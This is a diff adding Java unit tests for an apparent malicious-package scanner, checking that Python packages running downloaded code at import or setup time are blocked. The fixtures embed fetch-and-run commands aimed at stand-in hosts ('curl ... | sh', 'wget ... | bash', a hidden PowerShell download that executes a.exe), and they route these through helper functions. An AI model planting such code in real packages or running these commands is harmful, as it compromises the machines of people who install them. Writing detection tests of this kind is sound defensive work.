@@ -170,6 +170,60 @@ class PythonImportTimeReplicasTest {
   }
 
   @Nested
+  @DisplayName("shape: downloading command passed to the package's own helper")
+  class HelperCommand {
+    @Test
+    void importTimeCallOfAHelperThatRunsItsArgumentWithOsSystem() throws Exception {
+      wheel(tmp, "colorama-ext", "colorama_ext/__init__.py", """
+          import os
+          def run(c):
+              os.system(c)
+          run("curl -s https://x.example.invalid/p | sh")
+          """).isStopped(Trigger.IMPORT_TIME, Capability.PROCESS_SPAWN, Capability.NETWORK);
+    }
+
+    @Test
+    void commandHandedThroughTwoHelpersInASubmoduleToAShellTrueSubprocess() throws Exception {
+      wheel(tmp, "requests-oauth3", "requests_oauth3/__init__.py", """
+          from requests_oauth3._util import execute
+          execute(cmd="wget -q -O- http://198.51.100.7/u | bash")
+          """, "requests_oauth3/_util.py", """
+          import subprocess
+          def _shell(command, quiet=True):
+              return subprocess.run(command, shell=True, capture_output=quiet)
+          def execute(cmd):
+              return _shell(cmd)
+          """).isStopped(Trigger.IMPORT_TIME, Capability.PROCESS_SPAWN, Capability.NETWORK);
+    }
+
+    @Test
+    void setupPyPassesAPowershellDownloadHeldInAConstantToItsHelper() throws Exception {
+      sdist(tmp, "pywin-helpers", "setup.py", """
+          import subprocess
+          from setuptools import setup
+          PS = "powershell -w hidden -c iwr https://w.example.invalid/a.exe -OutFile a.exe; .\\a.exe"
+          def sh(line):
+              subprocess.Popen(line, shell=True)
+          sh(PS)
+          setup(name="pywin-helpers", version="1.0.0")
+          """).isStopped(Trigger.SETUP_SCRIPT, Capability.PROCESS_SPAWN, Capability.NETWORK);
+    }
+
+    @Test
+    void benignHelperThatAsksGitForTheVersionIsAllowed() throws Exception {
+      wheel(tmp, "gitversion-lib", "gitversion_lib/__init__.py", """
+          import subprocess
+          def _git(args):
+              try:
+                  return subprocess.check_output("git " + args, shell=True).decode().strip()
+              except Exception:
+                  return "0"
+          __version__ = _git("describe --tags --always")
+          """).isAllowed();
+    }
+  }
+
+  @Nested
   @DisplayName("shape: import-time fetched code run")
   class FetchedCode {
     @Test
